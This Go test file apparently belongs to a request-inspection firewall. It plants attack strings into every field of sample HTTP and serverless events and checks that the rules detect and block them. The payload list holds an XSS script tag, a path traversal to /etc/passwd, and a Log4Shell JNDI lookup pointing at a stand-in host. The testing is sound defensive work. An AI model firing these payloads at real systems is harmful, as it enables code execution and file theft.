package guard_test

import (
	"context"
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/merlon-security/merlon/internal/event"
	"github.com/merlon-security/merlon/internal/event/eventtest"
	"github.com/merlon-security/merlon/internal/verdict"
	"github.com/merlon-security/merlon/proxy"
)

// An attack in any string and any name of any sample, encoded as that string is,
// is found by the rules at its place and does not reach the function, unless the
// event is one that is never refused; then the verdict says so. A harmless text
// in its stead raises nothing.
func TestPlantedAttackIsFoundAndRefused(t *testing.T) {
	t.Parallel()
	g, _ := stripping(t, &keeper{})
	// Rules of paranoia level 1 look for these in headers, too.
	payloads := []string{"<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://a.example/x}"}
	const marker = "merlon-marker-17"
	places, refused, watched := 0, 0, 0
	for name, raw := range eventtest.Samples(t, "../..") {
		var doc any
		if err := json.Unmarshal(raw, &doc); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, p := range eventtest.Places(doc, nil) {
			places++
			at := name + " at " + p.Path.String()
			for i, payload := range payloads {
				planted := eventtest.JSON(p.With(payload))
				j := g.Judge(t.Context(), []byte(planted), nil, noDeadline)
				if !slices.ContainsFunc(j.Verdict.Findings, func(f verdict.Finding) bool { return stands(j.Event, f, p) }) {
					t.Errorf("%s (name %t): %q is not found there:\n%s", at, p.Name, payload, found(j.Verdict.Findings))
				}
				switch v := &j.Verdict; {
				case !v.Action.Blocked() && v.Reason != verdict.NotEnforced:
					t.Errorf("%s: %q is delivered: %s, %s", at, payload, v.Reason, v.Message)
				case !v.Action.Blocked():
					watched++
					continue
				default:
					refused++
				}
				if i > 0 {
					continue
				}
				if out := inspect(t, g, planted); (out.Answer == nil) == (out.Replace == nil) || strings.Contains(string(out.Replace), payload) {
					t.Errorf("%s: %q: answer %v, delivered %.200s", at, payload, out.Answer, out.Replace)
				}
			}
			j := g.Judge(t.Context(), []byte(eventtest.JSON(p.With(marker))), nil, noDeadline)
			for _, f := range j.Verdict.Findings {
				// A method, a protocol or a media type that is none breaks HTTP's own rules.
				if f.RuleID/1000 != 911 && f.RuleID/1000 != 920 {
					t.Errorf("%s: a harmless text raises\n%s", at, found([]verdict.Finding{f}))
				}
			}
		}
	}
	t.Logf("%d places, %d attacks: %d refused, %d in events that are never refused", places, places*len(payloads), refused, watched)
	if places < 1900 || watched > refused/8 {
		t.Errorf("%d places, %d of %d attacks only watched", places, watched, places*len(payloads))
	}
}

// stands reports whether a finding is about a place. The parts of a request
// stand under its member.
func stands(ev *event.Event, f verdict.Finding, p eventtest.Place) bool {
	want, s := p.Path.String(), f.Path.String()
	if want == "" || s == want || strings.HasPrefix(s, want+".") || strings.HasPrefix(s, want+"[") {
		return true
	}
	if ev.HTTP == nil || len(f.Path) == 0 {
		return false
	}
	switch top := p.Path[0].Key; top {
	case "rawQueryString":
		return f.Path[0].Key == "queryStringParameters" || f.Place == verdict.PlaceTarget
	case "path", "rawPath", "raw_path", "method", "httpMethod", "requestContext", "version":
		return f.Path[0].Key == top || f.Place == verdict.PlaceTarget || f.Place == verdict.PlaceMethod || f.Place == verdict.PlacePath
	default:
		return f.Path[0].Key == top || strings.EqualFold(top, "multiValueHeaders") && f.Path[0].Key == "headers"
	}
}

// B1: what an event is taken for is its sender's choice wherever the function
// can be invoked directly. No member of another event beside an attack has it
// delivered.
func TestB1BorrowedMarksStopNoRefusal(t *testing.T) {
	t.Parallel()
	all := map[string]map[string]any{}
	for name, raw := range eventtest.Samples(t, "../..") {
		var doc map[string]any
		if json.Unmarshal(raw, &doc) == nil {
			all[name] = doc
		}
	}
	const planted = "planted-17"
	g := blocking(seeing(planted), &records{})
	g.Keeper = &keeper{}
	pairs := 0
	for name, doc := range all {
		for other, marks := range all {
			for _, merged := range []map[string]any{maps.Clone(doc), maps.Clone(marks)} {
				for k, v := range marks {
					if _, has := merged[k]; !has {
						merged[k] = v
					}
				}
				for k, v := range doc {
					if _, has := merged[k]; !has {
						merged[k] = v
					}
				}
				merged["note"] = map[string]any{"text": planted}
				pairs++
				out := g.Inspect(t.Context(), &proxy.Invocation{ID: "r", Body: []byte(eventtest.JSON(merged))})
				if out.Answer == nil && (out.Replace == nil || strings.Contains(string(out.Replace), planted)) {
					t.Errorf("%s with the marks of %s is delivered with the attack", name, other)
				}
			}
		}
	}
	t.Logf("%d pairs", pairs)
	if pairs < 10_000 {
		t.Errorf("%d pairs, want at least 10000", pairs)
	}
}

// seeing is an engine that finds one text, wherever it stands.
func seeing(text string) inspector {
	return func(_ context.Context, ev *event.Event) (found verdict.Inspection, err error) {
		found.Scores = make([]int, max(1, ev.Records))
		for i := range ev.Leaves {
			l := &ev.Leaves[i]
			if strings.Contains(l.Value, text) {
				found.Scores[max(0, l.Record)] += 5
				found.Findings = append(found.Findings, verdict.Finding{RuleID: 1, Score: 5, Record: int(l.Record), Path: ev.Path(l)})
			}
		}
		return found, nil
	}
}

var noDeadline time.Time
